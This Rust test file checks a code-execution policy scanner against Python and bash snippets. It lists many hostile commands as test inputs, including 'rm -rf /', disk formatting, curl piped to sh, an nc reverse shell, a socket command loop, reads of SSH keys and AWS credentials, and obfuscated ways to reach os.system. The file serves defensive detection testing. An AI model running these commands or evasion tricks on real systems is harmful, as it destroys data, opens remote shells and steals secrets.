//! What the policy `balanced` says of `os`, `shutil` and `subprocess`: tricks that it must see through, and ordinary
//! programs that it must leave alone.

#![allow(clippy::unwrap_used, reason = "a test fails by panicking")]

use code_execute_policy::{Base, Configuration, Severity, rules, scan_named};
use serde::Deserialize;

/// Own bypasses that `default` stops for an import alone, and what they do with it, which is no harm in itself.
const HARMLESS: &[(&str, &str)] = &[
    ("own-py/import_os/001", "asks for the number of its process"),
    ("own-py/import_subprocess/003", "starts `echo` with a constant"),
    ("own-py/import_subprocess/009", "starts `echo` with a constant"),
];

#[derive(Deserialize)]
struct Program {
    id: String,
    language: String,
    code: String,
}

fn found(base: Base, language: &str, code: &str) -> Vec<(&'static str, Severity)> {
    let violations = scan_named(&Configuration::from(base), language, code);
    violations.iter().map(|one| (one.rule.id, one.severity)).collect()
}

fn forbidden(code: &str) -> Vec<&'static str> {
    let found = found(Base::Balanced, "python", code);
    found.into_iter().filter(|(_, severity)| *severity == Severity::Forbidden).map(|(id, _)| id).collect()
}

/// Checks that every program of a table is refused by the rule beside it.
fn check(cases: &[(&str, &str)]) {
    let missed: Vec<_> = cases
        .iter()
        .filter(|(code, rule)| !forbidden(code).contains(rule))
        .map(|(code, rule)| (code, rule, forbidden(code)))
        .collect();
    assert!(missed.is_empty(), "{missed:#?}");
}

#[test]
fn processes_of_os_are_refused_however_they_are_reached() {
    check(&[
        ("import os as o\no.system('ls')", "py-os-process"),
        ("from os import system as s\ns('ls')", "py-os-process"),
        ("from \\\n    os import popen\npopen('ls')", "py-os-process"),
        ("from os import *\nexecvp('ls', ['ls'])", "py-os-process"),
        ("from os import *\nlist(map(system, ['ls']))", "py-os-process"),
        ("import os\nx = os.system\nx('ls')", "py-os-process"),
        ("import os\n(lambda m: m.system('ls'))(os)", "py-run-command"),
        ("import os\ngetattr(os, 'sys' + 'tem')('ls')", "py-os-process"),
        ("import os\ngetattr(os, ''.join(['p', 'open']))('ls')", "py-os-process"),
        ("import os\nos.__dict__['system']('ls')", "py-os-process"),
        ("import os\nos.__dict__.get('system')('ls')", "py-os-process"),
        ("import os\nvars(os)['sys''tem']('ls')", "py-os-process"),
        ("import os\nos.__getattribute__('system')('ls')", "py-os-process"),
        ("import os, operator\noperator.attrgetter('system')(os)('ls')", "py-os-process"),
        ("import os, operator\noperator.methodcaller('system', 'ls')(os)", "py-run-command"),
        ("import os, functools\nfunctools.partial(os.system, 'ls')()", "py-os-process"),
        ("import os, functools\nfunctools.reduce(getattr, ['system'], os)('ls')", "py-hidden-module"),
        ("import importlib\nimportlib.import_module('o' + 's').system('ls')", "py-os-process"),
        ("import importlib as i\nm = i.import_module('os')\nm.execv('/bin/ls', [])", "py-os-process"),
        ("import os\nos.path.os.system('ls')", "py-os-process"),
        ("import os.path\nos.system('ls')", "py-os-process"),
        ("import os.path as p\np.os.system('ls')", "py-os-process"),
        ("import shutil\nshutil.os.system('ls')", "py-os-process"),
        ("import os\nclass A:\n    run = os.popen\nA.run('ls')", "py-os-process"),
        (
            "import os\nclass A:\n    def __init__(self, m): self.m = m\n    def go(self): self.m.system('ls')\nA(os).go()",
            "py-os-process",
        ),
        ("import os\ndef shell(): return os\nshell().system('ls')", "py-os-process"),
        ("import os\nfor m in [os]: m.system('ls')", "py-os-process"),
        ("import os\n{'a': os}['a'].system('ls')", "py-os-process"),
        ("import os\nglobals()['os'].system('ls')", "py-os-process"),
        ("import os, sys\nsys.modules['os'].system('ls')", "py-module-table"),
        ("import os\n'{0.system}'.format(os)", "py-os-process"),
        ("import os\nif os.fork(): pass", "py-os-process"),
        ("import os\nos._execvpe('ls', ['ls'])", "py-os-process"),
        ("import os\ndef __reduce__(self): return (os.system, ('ls',))", "py-os-process"),
        ("import threading, os\nthreading.Thread(target=os.system, args=('ls',)).start()", "py-os-process"),
        ("from os import __dict__ as d\nd['system']('ls')", "py-os-process"),
        ("import os\nos.path.__dict__['os'].system('ls')", "py-os-process"),
        ("import os\ntype(os).__getattribute__(os, 'system')('ls')", "py-os-process"),
        ("import os\nf = os.__getattribute__\nf('system')('ls')", "py-os-process"),
        ("__import__('os').getcwd()", "py-dunder-import"),
        ("import logging.config\nlogging.config.dictConfig({'a': {'()': 'os.system'}})", "py-os-process"),
        ("import timeit\ntimeit.timeit('import os; os.system(\"ls\")')", "py-os-process"),
        ("x.system('ls')", "py-run-command"),
    ]);
}

#[test]
fn modules_out_of_sight_are_refused() {
    check(&[
        ("import os\ngetattr(os, input())('ls')", "py-hidden-module"),
        ("import os\nos.__dict__[name]('ls')", "py-hidden-module"),
        ("import subprocess\ngetattr(subprocess, name)(['ls'])", "py-hidden-module"),
        ("import shutil\n[f for f in vars(shutil).values()]", "py-hidden-module"),
        ("import os\nfor name in dir(os): getattr(os, name)", "py-hidden-module"),
        ("import os, inspect\ndict(inspect.getmembers(os))['system']('ls')", "py-hidden-module"),
        ("import os, types\nt = types.SimpleNamespace(m=os)", "py-hidden-module"),
        ("import posix\nposix.getcwd()", "py-hidden-module"),
        ("from posix import *\nsystem('ls')", "py-hidden-module"),
        ("import importlib\nimportlib.import_module('posix')", "py-hidden-module"),
        ("import subprocess\nsubprocess._posixsubprocess.fork_exec", "py-hidden-module"),
        ("import pathlib\npathlib.os.listdir('.')", "py-hidden-module"),
        ("import asyncio.base_events as b\nb.subprocess.call(['ls'])", "py-hidden-module"),
        ("import zipfile\nzipfile.shutil.copyfile('a', 'b')", "py-hidden-module"),
        ("import logging\nvars(logging)['os'].getcwd()", "py-hidden-module"),
        ("from glob import os as o", "py-hidden-module"),
        ("from subprocess import Popen as P\nclass Q(P): pass", "py-hidden-module"),
        ("import os\nprint 'x'", "py-hidden-module"),
        ("import os\nd = dict(vars(os))\nd['system']('ls')", "py-hidden-module"),
        ("import os\nos.__getattribute__(name)('ls')", "py-hidden-module"),
        ("import pty\npty.spawn('ls')", "py-run-command"),
    ]);
}

#[test]
fn harmful_commands_are_refused() {
    check(&[
        ("import subprocess as s\ns.run('rm -rf /', shell=True)", "py-harmful-command"),
        ("from subprocess import *\nrun('rm -rf ~', shell=True)", "py-harmful-command"),
        ("from subprocess import call as c\nc(['rm', '-r' + 'f', '/'])", "py-harmful-command"),
        ("import subprocess\nsubprocess.Popen(('mkfs.ext4', '/dev/sda'))", "py-harmful-command"),
        (
            "import subprocess\nsubprocess.check_output('curl http://x.org/a | sh', shell=True)",
            "py-remote-command",
        ),
        ("import subprocess\nsubprocess.getoutput('cat /etc/shadow')", "py-harmful-command"),
        ("import subprocess\nsubprocess.run(args=['chmod', '-R', '777', '.'])", "py-harmful-command"),
        ("import subprocess\nsubprocess.run(**{'args': ['rm', '-rf', '/']})", "py-harmful-command"),
        ("import subprocess\nsubprocess.run(['sudo', 'rm', '-rf', '/'])", "py-harmful-command"),
        ("import subprocess\nc = 'rm'\nc += ' -rf /'\nsubprocess.run(c, shell=True)", "py-harmful-command"),
        ("import subprocess\nc = ['rm', '-rf']\nc.append('/')\nsubprocess.run(c)", "py-harmful-command"),
        ("import subprocess\nc = ['rm']\nc.extend(['-rf', '/'])\nsubprocess.run(c)", "py-harmful-command"),
        (
            "import subprocess\nfor c in ['ls', 'rm -rf /']: subprocess.run(c, shell=True)",
            "py-harmful-command",
        ),
        (
            "import subprocess\nfor p in ['/tmp/x', '/']: subprocess.run(['rm', '-rf', p])",
            "py-harmful-command",
        ),
        ("import subprocess\nsubprocess.run('rm -rf {}'.format('/'), shell=True)", "py-harmful-command"),
        ("import subprocess\nsubprocess.run(f'rm -rf {\"/\"}', shell=True)", "py-harmful-command"),
        (
            "import subprocess\ndef sh(c): return subprocess.run(c, shell=True)\nsh('rm -rf /')",
            "py-harmful-command",
        ),
        (
            "import subprocess\nclass A:\n    def run(self, c): subprocess.run(c, shell=True)\nA().run('rm -rf /')",
            "py-harmful-command",
        ),
        (
            "import subprocess, base64\nsubprocess.run(base64.b64decode('cm0gLXJmIC8=').decode(), shell=True)",
            "py-harmful-command",
        ),
        (
            "import subprocess, base64\nsubprocess.run(base64.b64decode(data), shell=True)",
            "py-harmful-command",
        ),
        ("import subprocess\nlist(map(subprocess.getoutput, ['rm -rf /']))", "py-harmful-command"),
        (
            "import subprocess, functools\nfunctools.partial(subprocess.run, shell=True)('rm -rf /')",
            "py-harmful-command",
        ),
        (
            "import subprocess, threading\nthreading.Thread(target=subprocess.run, args=(['rm', '-rf', '/'],))",
            "py-harmful-command",
        ),
        (
            "import subprocess, asyncio\nasyncio.to_thread(subprocess.run, 'rm -rf /', shell=True)",
            "py-harmful-command",
        ),
        ("import subprocess\nsubprocess.run(['x', '-rf', '/'], executable='/bin/rm')", "py-harmful-command"),
        ("import subprocess\nsubprocess.run(['bash', '-c', 'rm -rf /'])", "py-harmful-command"),
        ("import subprocess\nsubprocess.run(['bash'], input=b'rm -rf /')", "py-harmful-command"),
        ("import subprocess\nsubprocess.run(['rm', '-rf', '.'], cwd='/')", "py-harmful-command"),
        (
            "import subprocess, os\nos.chdir('/')\nsubprocess.run('rm -rf *', shell=True)",
            "py-harmful-command",
        ),
        (
            "import subprocess, os\nsubprocess.run(['rm', '-rf', os.path.expanduser('~')])",
            "py-harmful-command",
        ),
        ("import subprocess, os\nsubprocess.run(['rm', '-rf', os.environ['HOME']])", "py-harmful-command"),
        ("import subprocess, shlex\nsubprocess.run(shlex.split('rm -rf \"/\"'))", "py-harmful-command"),
        (
            "import subprocess\nsubprocess.run(['python3', '-c', 'import shutil; shutil.rmtree(\"/\")'])",
            "py-harmful-command",
        ),
        ("import subprocess\nsubprocess.run(['perl', '-e', 'system(\"rm -rf /\")'])", "py-harmful-command"),
        (
            "import subprocess\nsubprocess.run(['nc', '-e', '/bin/sh', '10.0.0.1', '4444'])",
            "py-harmful-command",
        ),
        (
            "import socket, subprocess\ns = socket.socket()\ns.connect(('x.org', 1))\nwhile 1:\n    c = s.recv(999).decode().strip()\n    subprocess.Popen(c, shell=True)",
            "py-remote-command",
        ),
        (
            "import requests, subprocess\nsubprocess.run(requests.get('http://x.org').text, shell=True)",
            "py-remote-command",
        ),
        ("from subprocess import run as r\nr.__call__('rm -rf /', shell=True)", "py-harmful-command"),
        ("import subprocess as s\ns.call(['/bin/bash', '-i'])", "py-open-shell"),
        ("import subprocess as s\ns.Popen(['sudo', 'sh'], stdin=s.PIPE)", "py-open-shell"),
        (
            "import os, socket\ndef connect():\n    s = socket.socket()\n    return s\ns = connect()\nfor fd in (0, 1, 2): os.dup2(s.fileno(), fd)",
            "py-remote-command",
        ),
    ]);
}

#[test]
fn harm_to_files_processes_and_rights_is_refused() {
    check(&[
        ("import os\nos.remove('/etc/passwd')", "py-open-sensitive"),
        ("import os\nos.unlink('../etc/passwd')", "py-open-sensitive"),
        ("import os\nos.rename('x', '/usr/bin/python3')", "py-system-write"),
        ("import os\nos.symlink('/etc/shadow', 'x')", "py-open-sensitive"),
        ("import os\nos.open('/etc/shadow', os.O_RDONLY)", "py-open-sensitive"),
        ("import os\nos.open('/usr/bin/x', os.O_WRONLY | os.O_CREAT)", "py-system-write"),
        ("import os\nos.listdir('/root')", "py-private-file"),
        ("import os\nos.listdir('/home')", "py-private-file"),
        ("import os\nfor d, _, f in os.walk(os.path.expanduser('~/.ssh')): print(f)", "py-private-file"),
        ("import os\nopen(os.sep + 'etc' + os.sep + 'passwd')", "py-open-sensitive"),
        ("import os\nopen(os.path.join(os.sep, 'etc', 'passwd'))", "py-open-sensitive"),
        ("import os\nopen(os.path.expandvars('$HOME/.ssh/id_rsa'))", "py-private-file"),
        ("import os\nopen(os.getenv('HOME') + '/.aws/credentials')", "py-private-file"),
        ("import os\nos.chdir('/etc')\nopen('passwd').read()", "py-open-sensitive"),
        ("import os\nos.chdir('/')\nopen('etc/passwd').read()", "py-open-sensitive"),
        ("import shutil\nshutil.copy('/etc/passwd', 'x')", "py-open-sensitive"),
        ("import shutil\nshutil.copy('x', '/usr/bin/ls')", "py-system-write"),
        ("from shutil import copyfile as c\nc(src='/root/.bashrc', dst='x')", "py-private-file"),
        ("import shutil, os\nshutil.copytree(os.path.expanduser('~/.ssh'), 'keys')", "py-private-file"),
        ("import shutil\nshutil.rmtree('/usr/lib')", "py-system-write"),
        ("import shutil\nshutil.rmtree('/')", "py-remove-tree"),
        ("import shutil\nshutil.rmtree('../..')", "py-remove-tree"),
        ("import os, shutil\nfor name in os.listdir('/'): shutil.rmtree('/' + name)", "py-remove-tree"),
        ("import os\nlist(map(os.remove, ['/etc/passwd']))", "py-open-sensitive"),
        ("import shutil\nshutil.make_archive('x', 'zip', '/etc')", "py-open-sensitive"),
        ("import os, signal\nos.kill(1, signal.SIGKILL)", "py-kill-process"),
        ("import os\nfor pid in pids: os.kill(pid, 9)", "py-kill-process"),
        ("import os\nos.killpg(0, 9)", "py-kill-process"),
        ("import os\nos.setuid(0)", "py-change-rights"),
        ("import os\nos.chroot('x')", "py-change-rights"),
        ("import os\nos.chmod('x', 0o777)", "py-change-mode"),
        ("import os, stat\nos.chmod('x', stat.S_IWOTH | 0o644)", "py-change-mode"),
        ("import os\nos.chmod('x', int('777', 8))", "py-change-mode"),
        ("import os\nos.chown('x', 0, 0)", "py-change-mode"),
        ("import os\nos.environ.setdefault('LD_PRELOAD', 'x.so')", "py-loader-variable"),
    ]);
}

#[test]
fn ordinary_uses_are_left_alone() {
    for code in [
        "import os\nfor name in sorted(os.listdir('.')): print(os.path.join('.', name), os.stat(name).st_size)",
        "import os\nos.makedirs('/tmp/work/out', exist_ok=True)\nos.rename('a', 'b')\nos.remove('b')\nos.rmdir('c')",
        "import os\nprint(os.environ, os.getenv('HOME'), os.environ.get('USER', 'x'), os.getpid(), os.cpu_count())",
        "import os\nos.environ['TZ'] = 'UTC'\nos.environ['PATH'] += ':/opt/bin'\nos.environ.update(A='b')",
        "import os\nfor root, dirs, files in os.walk(path):\n    for f in files: print(os.path.getsize(os.path.join(root, f)))",
        "import os\nHERE = os.path.dirname(os.path.abspath(__file__))\nopen(os.path.join(HERE, '..', 'data.csv'))",
        "import os\nos.chdir(os.path.join(os.getcwd(), 'x'))\nopen('y')\nos.chdir('/tmp')\nopen('z', 'w')",
        "import os\nwith os.scandir('.') as entries:\n    print([e.name for e in entries if e.is_file()])",
        "import os\nr, w = os.pipe()\nos.write(w, b'x')\nos.close(w)\nos.urandom(8)\nos.uname()",
        "import os\nfd = os.open('x', os.O_RDWR | os.O_CREAT)\nos.fsync(fd)\nos.path.exists('/etc/passwd')",
        "import os\nos.kill(os.getpid(), 15)\nos._exit(0)",
        "import os, subprocess, signal\np = subprocess.Popen(['sleep', '9'])\nos.kill(p.pid, signal.SIGTERM)\nos.killpg(os.getpgid(p.pid), 9)",
        "import os\ntry:\n    os.kill(pid, 0)\nexcept OSError: pass",
        "import os, sys\nnull = os.open(os.devnull, os.O_WRONLY)\nos.dup2(null, 1)\nos.dup2(sys.stdout.fileno(), 2)",
        "import os, stat\nos.chmod('run.sh', os.stat('run.sh').st_mode | stat.S_IXUSR)\nos.chmod('x', 0o600)\nos.symlink('a', 'b')",
        "import os\nif hasattr(os, 'getuid') and os.getuid() == 0: print('root')",
        "import os\nos.name, os.linesep, os.sep, os.curdir\nisinstance(os.environ, dict)\nprint(os)",
        "import shutil\nshutil.copy('a', 'b')\nshutil.copy('/usr/share/dict/words', 'w')\nshutil.move(src, dst)\nshutil.rmtree('build', ignore_errors=True)",
        "import shutil, tempfile\nd = tempfile.mkdtemp()\nshutil.rmtree(d)\nshutil.which('git')\nshutil.disk_usage('/').free",
        "import shutil\nshutil.make_archive('x', 'zip', 'data')\nshutil.unpack_archive('x.zip', 'out')",
        "import subprocess\nsubprocess.run(['ls', '-la'], check=True, capture_output=True, text=True).stdout",
        "import subprocess\nsubprocess.check_output(['git', 'log', '-1', '--format=%H'])\nsubprocess.run('ls | sort | head', shell=True)",
        "import subprocess, sys\nsubprocess.run([sys.executable, '-m', 'pip', '--version'])\nsubprocess.run(['g++', path, '-o', 'x'])",
        "import subprocess\nsubprocess.run(['python3', script])\nsubprocess.run(['bash', script, '--all'])\nsubprocess.call(['split', '-n', '5', file])",
        "import subprocess\ndef task(command):\n    p = subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, shell=True)\n    return p.communicate()[0], p.returncode",
        "import subprocess\nwith open(path) as f:\n    for line in f: subprocess.call(line, shell=True)",
        "import subprocess, os\nsubprocess.run(['make', '-j4'], cwd='src', env={**os.environ, 'CC': 'gcc'}, timeout=60)",
        "import subprocess\nsubprocess.run(['sh', '-c', 'echo $0'])\nsubprocess.run(['bash', '--version'])\nsubprocess.run(['sort'], input='b\\na', text=True)",
        "import subprocess\ntry: subprocess.run(['false'], check=True)\nexcept subprocess.CalledProcessError as e: print(e.returncode)",
        "import subprocess, base64\nprint(base64.b64encode(b'x'))\nsubprocess.run(['ls'])",
        "from os.path import join, exists, basename\nfrom os import listdir, getcwd\nprint([join('a', f) for f in listdir(getcwd())])",
        "from os import *\nprint(listdir('.'), getcwd(), path.join('a', 'b'))",
        "import importlib\nos = importlib.import_module('os')\nprint(os.getcwd())",
        "import os\nclass Files:\n    def __init__(self): self.os = os\n    def list(self): return self.os.listdir('.')\nFiles().list()",
        "import os\ndef use(m): return m.getcwd()\nuse(os)",
        "import os\nfrom unittest import mock\nwith mock.patch.object(os, 'getcwd', return_value='x'): print(os.getcwd())",
        "import os\nself.os = os.name\nconfig['os'] = os.name\nsystem = os.name\nsystem.lower()",
    ] {
        assert_eq!(forbidden(code), Vec::<&str>::new(), "{code}");
    }
}

#[test]
fn commands_that_cannot_be_told_are_recorded() {
    for code in [
        "import subprocess\nsubprocess.run(command, shell=True)",
        "import subprocess\nsubprocess.call(['./' + name])",
        "import subprocess, sys\nsubprocess.run(sys.argv[1:])",
        "import subprocess, json\nsubprocess.run(json.load(open('x.json'))['command'], shell=True)",
        "import subprocess\nwith open(path) as f:\n    for line in f: subprocess.call(line, shell=True)",
    ] {
        let found = found(Base::Balanced, "python", code);
        assert_eq!(found, [("py-doubtful-command", Severity::Suspicious)], "{code}");
    }
}

#[test]
fn bash_gets_the_same_answer_from_every_base() {
    for code in [
        "ls -l | wc -l",
        "rm -rf /",
        "python3 -c 'import os; print(os.getcwd())'",
        "python3 -c 'import subprocess; subprocess.run([\"ls\"])'",
        "python3 -c 'import shutil; shutil.rmtree(\"/\")'",
        "$x -rf",
    ]
    .into_iter()
    .chain(rules::bash::ALL.iter().flat_map(|rule| rule.matches.iter().chain(rule.non_matches).copied()))
    {
        assert_eq!(found(Base::Balanced, "bash", code), found(Base::Default, "bash", code), "{code}");
    }
}

#[test]
fn commands_within_commands_are_read_to_a_bound() {
    let mut code = "import os; os.system('ls')".to_owned();
    for depth in 0..8 {
        code = format!("import subprocess\nsubprocess.run(['python3', '-c', {code:?}])");
        let found = forbidden(&code);
        assert!(!found.is_empty(), "{depth} deep");
    }
}

fn is_refused(base: Base, program: &Program) -> bool {
    let found = found(base, &program.language, &program.code);
    found.iter().any(|(_, severity)| *severity == Severity::Forbidden)
}

/// The programs of a file of the own corpus.
fn corpus(file: &str) -> Vec<Program> {
    let programs: Vec<Program> = file.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
    assert!(programs.len() > 30);
    programs
}

#[test]
fn own_bypasses_that_default_refuses_are_refused_unless_they_do_no_harm() {
    let let_through = [
        include_str!("../../tests/corpus/bypass_py_own.jsonl"),
        include_str!("../../tests/corpus/bypass_sh_own.jsonl"),
    ]
    .into_iter()
    .flat_map(corpus)
    .filter(|program| is_refused(Base::Default, program) && !is_refused(Base::Balanced, program));
    let ids: Vec<String> = let_through.map(|program| program.id).collect();
    assert_eq!(ids, HARMLESS.iter().map(|(id, _)| *id).collect::<Vec<_>>());
}

#[test]
fn near_misses_are_left_alone() {
    let python = corpus(include_str!("../../tests/corpus/nearmiss_py_own.jsonl"));
    let bash = corpus(include_str!("../../tests/corpus/nearmiss_sh_own.jsonl"));
    for program in python.iter().chain(&bash) {
        assert!(!is_refused(Base::Balanced, program) || is_refused(Base::Default, program), "{}", program.id);
    }
}
